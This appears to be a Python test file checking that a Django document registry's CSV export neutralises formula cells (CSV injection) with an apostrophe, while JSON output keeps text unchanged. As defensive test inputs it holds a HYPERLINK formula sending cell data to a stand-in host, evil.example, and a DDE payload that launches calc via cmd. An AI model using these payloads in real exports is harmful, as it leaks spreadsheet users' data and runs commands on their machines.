"""The registry's CSV export opened in a spreadsheet: no cell is read as a formula
(OWASP's CSV injection: a cell starting with = + - @, a tab or a carriage return)."""

import csv
import io
from datetime import date

import pytest
from django.urls import reverse

from documents.models import DocumentKind, IssuingBody
from tests.documents.test_documents import make_document, pdf_bytes


def exported(client, **params):
    response = client.get(reverse("documents:list"), {"format": "csv", **params})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))


@pytest.mark.django_db
class TestCsvExport:
    @pytest.mark.parametrize(
        "title",
        [
            '=HYPERLINK("http://evil.example/?x="&A1,"Деталі")',
            "+380441234567",
            "-2+3",
            "@SUM(1+1)",
            "\t=1+1",
            "\r=1+1",
        ],
    )
    def test_a_cell_that_a_spreadsheet_would_run_is_neutralised(self, client, title):
        make_document(pdf_bytes(), title=title)
        (row,) = exported(client)
        assert row["title"] == "'" + title

    def test_every_text_column_is_neutralised(self, client):
        kind = DocumentKind.objects.create(name="=cmd|' /C calc'!A0", slug="cmd")
        issuer = IssuingBody.objects.create(name="@Рада")
        make_document(pdf_bytes(), title="Про парк", number="-1", kind=kind, issuer=issuer)
        (row,) = exported(client)
        assert row["kind"] == "'=cmd|' /C calc'!A0"
        assert row["issuer"] == "'@Рада"
        assert row["number"] == "'-1"

    def test_ordinary_cells_are_kept_as_they_are(self, client):
        document, _ = make_document(
            pdf_bytes(), title="Про тариф = 5 грн, «+» і «-»", number="125-р",
            adopted_on=date(2024, 3, 5),
        )  # fmt: skip
        (row,) = exported(client)
        assert row["title"] == "Про тариф = 5 грн, «+» і «-»"
        assert row["number"] == "125-р"
        assert row["adopted_on"] == "2024-03-05"
        assert row["url"] == f"http://testserver/documents/{document.pk}/"
        assert row["id"] == str(document.pk)

    def test_json_keeps_the_text_as_it_is(self, client):
        make_document(pdf_bytes(), title="=1+1")
        response = client.get(reverse("documents:list"), {"format": "json"})
        assert response.json()[0]["title"] == "=1+1"
